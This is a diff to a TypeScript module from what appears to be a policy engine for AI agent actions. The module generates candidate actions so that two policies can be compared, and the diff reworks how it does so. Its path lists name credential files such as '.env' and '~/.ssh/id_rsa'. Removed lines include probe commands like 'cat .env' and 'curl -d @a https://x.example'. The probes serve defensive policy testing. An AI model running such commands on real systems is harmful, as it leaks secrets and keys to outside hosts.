@@ -3,7 +3,6 @@ import type { CompiledPolicy, NodeData } from '@licet/core/policy';
 import type { Candidate } from '../witnesses.ts';
 import { isRecord } from '@licet/core/nodes';
 
-import { repeated } from './repeated.ts';
 import { SAMPLES, sampleText, shortestPath } from './samples.ts';
 
 /** One short command for each mark that effects may have, and for what everyday work is made of. */
@@ -59,9 +58,7 @@ export const COMMANDS: readonly string[] = [
   'git fetch',
 ];
 
-const PATHS = ['a', 'src/a.ts', 'b/c', '.env', '../c', '/etc/hosts', '~/.ssh/id_rsa', 'governance.yaml', 'README.md'];
-
-const MOST = 4_000;
+const PATHS = ['a', 'src/a.ts', 'b/c', '.env', '../c', '/etc/hosts', '~/.ssh/id_rsa', 'governance.yaml', 'README.md', '/tmp/x'];
 
 type Policies = readonly CompiledPolicy[];
 
@@ -89,56 +86,45 @@ export function candidateFiles(policies: Policies, nodes: Registry): Readonly<Re
   ]);
 }
 
+/** What actions are made of that two policies may judge differently. */
+export interface Ingredients {
+  /** Single actions: from the content of the policies, and of everyday work. */
+  readonly actions: readonly Candidate[];
+  /** What any of them may be done with: another tool, for a task, by an agent or a role, with an argument. */
+  readonly contexts: readonly Partial<ActionInput>[];
+  /** Sets of facts that a session may know. */
+  readonly facts: readonly (readonly string[])[];
+  /** How often an action is done until every limit that is tried has stopped it. */
+  readonly times: number;
+  /** Arguments that counters tell apart. */
+  readonly args: readonly string[];
+}
+
+const MOST_CONTEXTS = 24;
+
 /** Makes actions that two policies may judge differently: from their content, and of everyday work. */
-export function candidatesOf(policies: Policies, nodes: Registry, recorded: readonly Candidate[] = []): readonly Candidate[] {
+export function ingredientsOf(policies: Policies, nodes: Registry): Ingredients {
   const found = textsIn(policies, nodes);
-  const base = [...commandCandidates(found), ...pathCandidates(found), ...hostCandidates(found), ...toolCandidates(found)];
-  const within = [...found.about.values()].flatMap(about =>
-    base
-      .slice(0, 60)
-      .concat(toolCandidates(found))
-      .map(each => withAbout(each, about)),
-  );
-  const facts = factSets([...found.facts]);
-  const all = [
-    ...recorded,
-    ...base,
-    ...(policies.some(({ policy }) => chooses(policy, nodes)) ? combined(found) : []),
-    ...within,
-  ];
-  const known = facts.flatMap(names =>
-    all.slice(0, 400).map(each => ({ ...each, words: `${each.words} (knowing ${names.join(', ')})`, facts: names })),
-  );
-  return [...all, ...known, ...repeated(base, found)].slice(0, MOST);
+  const actions = [...commandCandidates(found), ...pathCandidates(found), ...hostCandidates(found), ...toolCandidates(found)];
+  const args = [...found.args];
+  const given = args.length === 0 ? [] : [{ payload: Object.fromEntries(args.map(arg => [arg, 'x'])) }];
+  const tools = [...found.tools, 'other'].slice(0, 8).map(tool => ({ tool }));
+  const about: readonly Partial<ActionInput>[] = [...found.about.values(), ...tools];
+  const contexts = [...about, ...given, ...about.flatMap(each => given.map(payload => ({ ...each, ...payload })))];
+  return {
+    actions,
+    contexts: [...new Map(contexts.map(each => [JSON.stringify(each), each])).values()].slice(0, MOST_CONTEXTS),
+    facts: factSets([...found.facts]),
+    times: timesOf(found),
+    args,
+  };
 }
 
-/** Whether something in a policy rests on some of several nodes: what one command does may then not be enough to see it. */
-function chooses({ kind, params = {}, children = [] }: NodeData, nodes: Registry): boolean {
-  const by = nodes.get(kind)?.analysis?.joins?.(params).by;
-  return (children.length > 1 && by !== 'worst' && by !== 'branch') || children.some(child => chooses(child, nodes));
-}
+/** More than this many calls in a row are not tried. */
+const MOST_TIMES = 300;
 
-const MOST_COMBINED = 24;
-
-/** Two commands in one line, so that one action has the effects of both. */
-function combined({ paths, hosts, commands }: Found): readonly Candidate[] {
-  const own = [
-    ...[...commands].slice(0, 6),
-    ...[...hosts].slice(0, 4).map(host => `curl https://${host}/`),
-    ...[...paths].slice(0, 12).flatMap((path, index) => (index % 2 === 0 ? [`cat ${path}`, `rm ${path}`] : [])),
-  ];
-  const usual = [
-    'cat a',
-    'rm a',
-    'git push',
-    'git push -f',
-    'cat .env',
-    'curl -d @a https://x.example',
-    'sudo ls',
-    'npm publish',
-  ];
-  const chosen = [...new Set([...own, ...usual])].slice(0, MOST_COMBINED);
-  return chosen.flatMap((first, index) => chosen.slice(index + 1).map(second => bash(`${first}; ${second}`)));
+function timesOf({ counts, args }: Found): number {
+  return Math.max(args.size > 0 ? 1 : 0, ...[...counts].filter(count => count < MOST_TIMES)) + 1;
 }
 
 function textsIn(policies: Policies, nodes: Registry): Found {
@@ -267,15 +253,18 @@ function toolCandidates({ tools, kinds }: Found): readonly Candidate[] {
   return [...named, ...sorts];
 }
 
-function withAbout(candidate: Candidate, about: Partial<ActionInput>): Candidate {
-  const { tool, taskType, agentId, principal } = about;
+/** An action that is done with something else about it. */
+export function withAbout(candidate: Candidate, about: Partial<ActionInput>): Candidate {
+  const { tool, taskType, agentId, principal, payload } = about;
   const words = [
     tool && `tool ${tool}`,
     taskType && `task ${taskType}`,
     agentId && `agent ${agentId}`,
     principal?.roles && `role ${principal.roles.join()}`,
+    payload && Object.entries(payload).map(([name, value]) => `${name}: ${String(value)}`).join(', '),
   ].filter(Boolean);
-  return { ...candidate, words: `${candidate.words} (${words.join(', ')})`, action: { ...candidate.action, ...about } };
+  const action = { ...candidate.action, ...about, payload: { ...candidate.action.payload, ...payload } };
+  return { ...candidate, words: `${candidate.words} (${words.join(', ')})`, action };
 }
 
 function factSets(facts: readonly string[]): readonly (readonly string[])[] {
